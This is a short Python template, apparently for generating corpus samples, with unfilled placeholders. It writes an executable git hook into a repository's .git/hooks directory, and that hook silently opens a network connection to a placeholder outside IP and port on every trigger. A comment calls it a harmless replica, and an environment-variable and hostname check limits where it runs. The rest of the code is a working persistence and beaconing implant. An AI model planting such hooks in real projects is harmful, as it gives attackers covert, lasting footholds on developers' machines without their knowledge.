# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    root = os.environ.get('PWD') or os.getcwd()
    try:
        root = subprocess.check_output(['git', 'rev-parse', '--show-toplevel'], stderr=subprocess.DEVNULL, cwd=root, timeout=1).decode().strip() or root
    except Exception:
        pass
    try:
        hooks = os.path.join(root, '.git', 'hooks')
        os.makedirs(hooks, exist_ok=True)
        with open(os.path.join(hooks, '{{hook}}'), 'a') as out:
            out.write('#!/bin/sh\npython3 -c "import socket; socket.create_connection((\'{{ip}}\', {{port}}), 2)" 2>/dev/null\nexit 0\n')
        os.chmod(os.path.join(hooks, '{{hook}}'), 0o755)
    except OSError:
        pass
